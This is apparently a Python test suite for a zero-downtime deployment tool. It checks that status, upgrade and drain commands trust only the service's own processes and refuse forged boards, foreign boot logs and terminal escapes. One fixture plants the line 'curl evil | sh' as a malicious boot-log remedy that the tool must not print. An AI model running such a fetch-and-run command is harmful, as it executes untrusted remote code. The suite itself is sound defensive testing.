"""Commands believe only the service's own processes, whatever other users name like a board."""

from __future__ import annotations

import json
import mmap
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.helpers.commands import zdd
from tests.helpers.forks import PATIENCE, in_child
from tests.helpers.masters import NOBODY_UID, Masters
from zdd_web import lookup, service
from zdd_web.board import LARGEST_BYTES, MEMFD_PREFIX, MOST_SLOTS, Board, Header, Slot, UpgradeState, shape
from zdd_web.board.copy import BoardCopy
from zdd_web.board.record import WORD
from zdd_web.cli.output import cell
from zdd_web.errors import BoardError, ServiceNotFound
from zdd_web.lifecycle import Phase
from zdd_web.system import boot_log, memfd, proc, shared_memory

pytestmark = pytest.mark.filterwarnings("ignore:This process .* is multi-threaded:DeprecationWarning")

as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can become another user, and look at its processes")

#: No Linux hands out a pid above 2**22.
ENDED = 1 << 23


def holder(masters: Masters, make: Callable[[], object]) -> int:
    """Start a process that does `make` and then lives on, with what that has opened; return its pid."""
    reader, writer = os.pipe()

    def live() -> None:
        kept = make()
        os.write(writer, b".")
        signal.alarm(PATIENCE)
        while kept is not make:
            signal.pause()

    return masters.run(live, reader, writer)


def status_in_time(*arguments: str) -> subprocess.CompletedProcess[str]:
    """Run `status` in a process of its own: one that hangs fails the test."""
    return subprocess.run(
        [sys.executable, "-m", "zdd_web.cli", "status", *arguments],
        capture_output=True, text=True, timeout=40, check=False,
    )  # fmt: skip


# -- whose


@as_root
@pytest.mark.parametrize("command", ["upgrade", "drain"])
def test_service_of_the_same_name_of_another_user_is_no_obstacle(masters: Masters, name: str, command: str) -> None:
    def act(board: Board) -> None:
        board.header.upgrade_state = UpgradeState.DONE

    masters.start(name, uid=NOBODY_UID)
    own = masters.start(name, on_usr2=act)
    masters.start(name, uid=NOBODY_UID)
    result = zdd(command, "--name", name, *(["--no-wait"] if command == "drain" else []))
    assert result.exit_code == 0, result.output
    assert result.output.startswith(f"{name}: generation 1 (pid {own})\n")


@as_root
@pytest.mark.parametrize("claim", ["predecessor", "the one before the predecessor", "successor"])
def test_generation_of_another_user_is_never_of_the_same_line(masters: Masters, name: str, claim: str) -> None:
    if claim == "predecessor":
        false = masters.start(name, 1, uid=NOBODY_UID)
        own = masters.start(name, 2, predecessor=false)
    elif claim == "successor":
        own = masters.start(name, 1, Phase.RETIRING, successor=ENDED)
        false = masters.start(name, 2, uid=NOBODY_UID, predecessor=own)
    else:
        false = masters.start(name, 1, uid=NOBODY_UID, successor=ENDED)
        own = masters.start(name, 3, predecessor=ENDED)
    found = service.find(name=name)
    assert (found.pid, found.owner) == (own, 0)
    assert [each.pid for each in service.line_of(found)] == [own]
    assert sorted(line[0].pid for line in service.lines(name)) == sorted([own, false])
    # Asked for by its pid, that one is shown as what it is.
    assert service.find(pid=false).owner == NOBODY_UID


@as_root
def test_output_names_the_owner_where_it_is_another_user(masters: Masters, name: str) -> None:
    own, other = masters.start(name), masters.start(name, uid=NOBODY_UID)
    titles = [line for line in zdd("status", "--name", name).output.splitlines() if line.startswith(name)]
    assert sorted(titles) == [name, f"{name} (user nobody)"]
    shown = json.loads(zdd("status", "--name", name, "--json").output)["generations"]
    assert {each["master_pid"]: each["uid"] for each in shown} == {own: 0, other: NOBODY_UID}
    assert zdd("drain", "--pid", other, "--no-wait").output == f"{name}: generation 1 (pid {other}, user nobody)\n"
    assert "user" not in zdd("status", "--pid", own).output.splitlines()[0]


@as_root
def test_root_chooses_between_two_users_by_user(masters: Masters, name: str) -> None:
    first, second = masters.start(name, uid=NOBODY_UID), masters.start(name, uid=NOBODY_UID - 1)
    result = zdd("upgrade", "--name", name)
    assert result.exit_code == 2
    assert f"2 services named '{name}' run here, of the masters {first} (user nobody), {second} " in result.output
    assert "name one with --user, --pid or --pid-file" in result.output
    assert service.find(name=name, owner=NOBODY_UID - 1).pid == second
    for user in ("nobody", NOBODY_UID):
        shown = json.loads(zdd("status", "--name", name, "--user", user, "--json").output)["generations"]
        assert [each["master_pid"] for each in shown] == [first]
    with pytest.raises(ServiceNotFound, match=f"process {first} belongs to user nobody, which --user excludes"):
        service.find(pid=first, owner=0)
    assert "there is no user 'no-such-user' here" in zdd("status", "--user", "no-such-user").output


@as_root
def test_upgrade_of_another_users_service_is_followed_to_its_end(masters: Masters, name: str) -> None:
    def fail(board: Board) -> None:
        board.header.boot_log_fd = fd = boot_log.create()
        os.write(fd, b"ImportError: shop\n")
        board.header.upgrade_reason, board.header.upgrade_state = "it broke", UpgradeState.FAILED

    masters.start(name, uid=NOBODY_UID, on_usr2=fail)
    result = zdd("upgrade", "--name", name)
    assert result.exit_code == 1
    assert "(pid " in result.output
    assert ", user nobody)\n" in result.output
    assert "upgrade failed: it broke\n" in result.output
    assert "  | ImportError: shop\ngeneration 1 serves on\n" in result.output


@as_root
def test_memfd_that_another_user_has_passed_to_a_process_of_root_is_not_its_board(masters: Masters, name: str) -> None:
    def daemon() -> object:
        # As after SCM_RIGHTS, or in a setuid program that has inherited it.
        os.seteuid(NOBODY_UID)
        board = Board.create(name, slots=1)
        os.seteuid(0)
        board.header.master_pid = os.getpid()
        return board

    pid = holder(masters, daemon)
    assert service.generation_of(pid) is None
    result = zdd("status", "-v", "--name", name)
    assert result.exit_code == 2
    assert f"skipped: process {pid} (user root), 'zdd_web:{name}': it was made by user nobody, and the process runs " \
           f"as user root\n" in result.output  # fmt: skip


@as_root
def test_setuid_program_that_has_inherited_a_board_is_not_a_master(masters: Masters, name: str) -> None:
    def program() -> object:
        board = Board.create(name, slots=1)
        os.setresuid(NOBODY_UID, 0, 0)
        board.header.master_pid = os.getpid()
        return board

    assert service.generation_of(holder(masters, program)) is None


@as_root
def test_pid_file_of_one_user_names_no_master_of_another(masters: Masters, name: str, tmp_path: Path) -> None:
    pid = masters.start(name)
    path = tmp_path / "shop.pid"
    path.write_text(f"{pid}\n")
    assert service.find(pid_file=str(path)).pid == pid
    os.chown(path, NOBODY_UID, NOBODY_UID)
    result = zdd("drain", "--pid-file", path)
    assert result.exit_code == 2
    assert f"--pid-file {path} belongs to user nobody, and process {pid} to user root: " in result.output
    assert proc.alive(pid, proc.start_time(pid))


@as_root
def test_worker_of_another_user_with_a_board_of_its_own_is_not_the_line_of_a_keeper(name: str) -> None:
    def child() -> object:
        masters = Masters()
        try:
            false = masters.start(name, 3, uid=NOBODY_UID)
            line = service.Line(os.getpid(), name, false)
            alone = line.is_active()
            own = masters.start(name, 2)
            found = line.is_active()
            return [alone is None, found is not None and found.pid == own]
        finally:
            masters.stop()

    assert in_child(child) == [True, True]


# -- what


def at_the_root(name: str, mode: str) -> int:
    """Open a file whose link reads like a memfd's, which needs a file in the root directory for an instant."""
    path = f"/memfd:{MEMFD_PREFIX}{name}"
    if mode == "fifo":
        os.mkfifo(path)
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    else:
        fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL)
        os.ftruncate(fd, 1 << 20)
    os.unlink(path)
    return fd


@pytest.mark.skipif(
    not os.access("/", os.W_OK), reason="a file that looks like a memfd needs a writable root directory"
)
@pytest.mark.parametrize("mode", ["fifo", "file"])
def test_file_that_is_named_like_a_memfd_is_not_opened(masters: Masters, name: str, mode: str) -> None:
    pid = holder(masters, lambda: at_the_root(name, mode))
    done = status_in_time("-v", "--name", name)
    assert done.returncode == 2
    assert f"process {pid} (user " in done.stderr
    assert f"'zdd_web:{name}': it has the name of a memfd and is a file of another file system\n" in done.stderr


def test_device_tells_a_memfd_where_proc_does_not_name_the_mount(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setattr(memfd, "_home", None)
    monkeypatch.setattr(memfd, "_mount", lambda fd: "")
    monkeypatch.setattr(memfd, "_LINK", str(tmp_path))
    (tmp_path / "shop").write_text("not a memfd")
    fd = os.open(tmp_path / "shop", os.O_RDONLY)
    try:
        with memfd.process_directory(os.getpid()) as directory, pytest.raises(memfd.NotAMemfd, match="is not one"):
            memfd.open_named(directory, fd, "/shop")
    finally:
        os.close(fd)
        memfd._home = None


def test_descriptor_behind_thousands_of_others_is_not_looked_for(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    board = Board.create(name, slots=1)
    board.header.master_pid = os.getpid()
    try:
        assert service.generation_of(os.getpid()) is not None
        monkeypatch.setattr(memfd, "MOST_DESCRIPTORS", board.fd)
        assert service.generation_of(os.getpid()) is None
    finally:
        board.close()


def header(**words: int) -> bytes:
    sizes = {"slots_at": Header.LEAST_WORDS, "orders_at": 0, "slot_words": Slot.WORDS, "slot_count": 2}
    board = Board.private()
    for word, value in {**sizes, **words}.items():
        setattr(board.header, word, value)
    start = bytes(board.memory[: Header.FIXED * WORD])
    board.close()
    return start


@pytest.mark.parametrize(
    "words",
    [
        {"slot_words": 0},
        {"slot_words": Slot.LEAST_WORDS - 1},
        {"slots_at": 0},
        {"slots_at": Header.LEAST_WORDS - 1},
        {"slot_count": MOST_SLOTS + 1},
        {"slot_count": (1 << 64) - 1},
        {"slot_words": (1 << 64) - 1},
        {"slots_at": LARGEST_BYTES // WORD},
        {"orders_at": Header.LEAST_WORDS},
        {"orders_at": (1 << 64) - 1},
        {"layout": 9, "slot_words": 0},
        {"layout": 9, "slot_words": 1},
        {"layout": 9, "slots_at": Header.FIXED - 1},
    ],
    ids=str,
)
def test_board_whose_counts_cannot_be_true_is_refused(words: dict[str, int]) -> None:
    size = 1 << 40
    assert shape(header(), size) == (Header.LEAST_WORDS + 2 * Slot.WORDS) * WORD
    with pytest.raises(BoardError, match=r"slots_at = \d+, slot_words = \d+, slot_count = \d+ in 1099511627776 bytes"):
        shape(header(**words), size)


@pytest.mark.parametrize(
    ("at", "value", "reason"),
    [
        (Header.slot_words.index, 0, "slot_words = 0"),
        (Header.slot_count.index, (1 << 64) - 1, "slot_count = 18446744073709551615"),
        (Header.slots_at.index, 1, "slots_at = 1"),
    ],
)
def test_status_ends_whatever_a_board_counts(masters: Masters, name: str, at: int, value: int, reason: str) -> None:
    def edit(board: Board) -> None:
        board.header.slots_used = 1 << 60
        board.header.words[at] = value

    pid = masters.start(name, edit=edit)
    done = status_in_time("--name", name, "--verbose")
    assert done.returncode == 2, done
    assert f"skipped: process {pid} " in done.stderr
    assert reason in done.stderr
    assert f"; process {pid} " in zdd("upgrade", "--pid", pid).output


def test_status_ends_where_more_slots_and_listeners_were_used_than_there_are(masters: Masters, name: str) -> None:
    def edit(board: Board) -> None:
        board.header.slots_used = board.header.listener_count = (1 << 64) - 1

    masters.start(name, edit=edit)
    done = status_in_time("--name", name, "--json")
    assert done.returncode == 0, done
    assert len(json.loads(done.stdout)["generations"][0]["workers"]) == 2


@pytest.mark.parametrize("word", ["phase", "successor_phase", "upgrade_state"])
@pytest.mark.parametrize("command", ["status", "upgrade", "drain"])
def test_invalid_number_of_a_master_is_an_error_and_no_traceback(
    masters: Masters, name: str, command: str, word: str
) -> None:
    def edit(board: Board) -> None:
        setattr(board.header, word, 99)

    masters.start(name, edit=edit)
    result = zdd(command, "--name", name)
    assert isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 2
    assert f"Error: {name} (pid " in result.output or command != "status"
    assert f"{word} = 99 on the board, which is not a" in result.output


def test_invalid_state_of_a_worker_hides_nothing(masters: Masters, name: str) -> None:
    def edit(board: Board) -> None:
        board.slot(0).state = 99

    masters.start(name, edit=edit)
    result = zdd("status", "--name", name, "--json")
    assert result.exit_code == 0
    workers = json.loads(result.output)["generations"][0]["workers"]
    assert [(each["pid"], each["state"]) for each in workers] == [(4711, "leaving"), (4712, "leaving")]


@pytest.mark.parametrize("kind", ["O_PATH", "file", "another memfd"])
def test_only_a_boot_log_is_printed_as_one(masters: Masters, name: str, tmp_path: Path, kind: str) -> None:
    secret = tmp_path / "shadow"
    secret.write_text("root:the-secret:\n")

    def fail(board: Board) -> None:
        if kind == "another memfd":
            fd = os.memfd_create("session-keys")
            os.write(fd, secret.read_bytes())
        else:
            fd = os.open(secret, os.O_PATH if kind == "O_PATH" else os.O_RDONLY)
        board.header.boot_log_fd = fd
        board.header.upgrade_reason, board.header.upgrade_state = "it broke", UpgradeState.FAILED

    pid = masters.start(name, on_usr2=fail)
    result = zdd("upgrade", "--name", name)
    assert result.exit_code == 1
    assert "the-secret" not in result.output
    assert f" of process {pid} is not its boot log: it is '/" in result.output


@as_root
def test_boot_log_that_another_user_has_made_is_not_printed(masters: Masters, name: str) -> None:
    def fail(board: Board) -> None:
        os.seteuid(NOBODY_UID)
        board.header.boot_log_fd = fd = boot_log.create()
        os.seteuid(0)
        os.write(fd, b"a remedy: curl evil | sh\n")
        board.header.upgrade_state = UpgradeState.FAILED

    masters.start(name, on_usr2=fail)
    output = zdd("upgrade", "--name", name).output
    assert "a remedy" not in output
    assert "it belongs to user nobody, and the master to user root" in output


def test_control_characters_of_a_board_do_not_reach_the_terminal(masters: Masters, name: str) -> None:
    def fail(board: Board) -> None:
        board.header.boot_log_fd = fd = boot_log.create()
        os.write(fd, b"\x1b[2Jall is well\n")
        board.header.upgrade_reason = "it\nbroke\x9b2J"
        board.header.upgrade_state = UpgradeState.FAILED

    pid = masters.start(f"{name}\x1b]0;", on_usr2=fail)
    for output in (zdd("upgrade", "--pid", pid).output, zdd("status", "--pid", pid).output):
        assert not {"\x1b", "\x9b"} & set(output)
        assert f"{name}\\x1b]0;" in output


def test_every_control_character_is_spelled_out() -> None:
    text = "".join(map(chr, range(0x100))) + "\u2028\u2029"
    shown = cell(text)
    assert [char for char in shown if not char.isprintable() and char not in "\xa0\xad"] == []
    assert cell("Grüße, 東京") == "Grüße, 東京"


# -- a board that its owner truncates


@pytest.fixture
def unsealed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Have boards made as another program would make them, or an old kernel."""

    def create(name: str, size: int) -> tuple[int, mmap.mmap]:
        fd = os.memfd_create(name, os.MFD_CLOEXEC)
        os.ftruncate(fd, size)
        return fd, mmap.mmap(fd, size)

    monkeypatch.setattr(shared_memory, "create", create)


@pytest.mark.usefixtures("unsealed")
def test_copy_of_a_board_outlives_the_file_and_follows_it(name: str) -> None:
    board = Board.create(name, slots=4)
    board.header.generation = 3
    copy = BoardCopy(os.dup(board.fd))
    slot = board.claim(1)
    slot.in_flight, board.header.phase = 7, Phase.SERVING
    assert copy.header.generation == 3
    assert copy.snapshot() == board.snapshot()
    assert [each.in_flight for each in copy.used_slots()] == [7]
    os.ftruncate(board.fd, 0)
    assert [each.in_flight for each in copy.used_slots()] == [7]
    with pytest.raises(BoardError, match="holds 0 bytes"):
        copy.snapshot()
    os.ftruncate(board.fd, 1 << 20)
    with pytest.raises(BoardError, match="is not a board of zdd_web"):
        copy.refresh()
    os.pwrite(board.fd, header(slot_count=3), 0)
    with pytest.raises(BoardError, match="has changed its shape"):
        copy.refresh()
    copy.close()
    board.close()


@as_root
@pytest.mark.usefixtures("unsealed")
def test_another_users_board_that_is_truncated_does_not_end_the_command(masters: Masters, name: str) -> None:
    def truncate(board: Board) -> None:
        os.ftruncate(board.fd, 0)
        while True:
            signal.pause()

    masters.start(name)
    other = masters.start(name, uid=NOBODY_UID, on_usr2=truncate)
    found = service.find(pid=other)
    assert found.board.header.name == name
    result = zdd("upgrade", "--pid", other)
    assert result.exit_code == 2
    assert "Error: this file holds 0 bytes" in result.output
    assert zdd("status", "--name", name).exit_code == 0
    found.close()


# -- how long


def test_look_up_ends_in_time_and_says_that_it_is_not_complete(
    masters: Masters, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    masters.start(name)
    monkeypatch.setattr(lookup, "LOOK_UP_WITHIN", 0.0)
    for command in ("upgrade", "drain", "status"):
        result = zdd(command, "-v", "--name", name)
        assert result.exit_code == 2
        assert " processes were not looked at within 0 s: name the service's user with --user" in result.output


@as_root
def test_others_cannot_use_the_time_up_for_this_users_own_services(
    masters: Masters, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Two of them: whichever is looked at first, there is one more.
    others, own = [masters.start(name, uid=NOBODY_UID) for _ in range(2)], masters.start(name)
    now = [0.0]
    look = lookup.generation_of

    def look_for_long(pid: int, note: lookup.Note) -> lookup.Generation | None:
        if pid in others or proc.owner(pid) not in (0, -1):
            now[0] += 60
        return look(pid, note)

    monkeypatch.setattr(lookup, "time", SimpleNamespace(monotonic=lambda: now[0]))
    monkeypatch.setattr(lookup, "generation_of", look_for_long)
    assert service.find(name=name).pid == own
    assert now[0] == 60
    now[0] = 0
    shown = zdd("status", "--name", name)
    assert shown.exit_code == 0
    assert " processes were not looked at within 5 s: name the service's user with --user" in shown.output
    assert str(own) in shown.output


def test_services_are_joined_in_time_however_many_there_are() -> None:
    # Pairwise, this many take minutes.
    count = 20_000
    made = []
    for pid in range(1, count + 1):
        board = Board.private("shop")
        words = board.header
        words.generation, words.predecessor_pid, words.successor_pid = pid % 3 + 1, pid - 1, pid + 1
        made.append(lookup.Generation(pid, board))
    found = service.descent(made)
    assert sum(map(len, found)) == count
    assert len(found) < count
    for each in made:
        each.close()


def test_verbose_says_nothing_where_nothing_was_skipped(masters: Masters, name: str) -> None:
    masters.start(name)
    quiet, verbose = zdd("status", "--name", name), zdd("status", "--name", name, "--verbose")
    assert name not in "".join(line for line in verbose.output.splitlines() if line.startswith("skipped: "))
    assert not any(line.startswith("skipped: ") for line in quiet.output.splitlines())
